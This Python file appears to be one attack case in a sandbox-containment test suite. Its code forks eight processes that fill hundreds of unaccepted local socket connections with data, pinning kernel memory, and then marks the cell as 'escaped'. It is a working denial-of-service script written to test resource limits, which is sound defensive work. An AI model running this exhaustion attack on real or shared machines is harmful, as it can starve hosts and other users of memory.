"""Connections that nobody accepts, full of bytes, whose senders have hung up: much of the kernel's memory, cheaply."""

from attacks import DEAF, IF_ESCAPED

EXERCISE = "start-greet"
CELL = (
    DEAF
    + r"""
import os, socket
told, tell = os.pipe()
for _ in range(8):
    if os.fork() == 0:
        server = socket.create_server(("127.0.0.1", 0), backlog=4096)
        for _ in range(250):
            client = socket.create_connection(server.getsockname())
            client.setblocking(False)
            try:
                while True:
                    client.send(b"x" * (64 << 10))
            except BlockingIOError:
                client.close()
        os.write(tell, b"x")
        time.sleep(600)
done = b""
while len(done) < 8:
    done += os.read(told, 8)
time.sleep(0.8)
escaped = True
"""
    + IF_ESCAPED
)
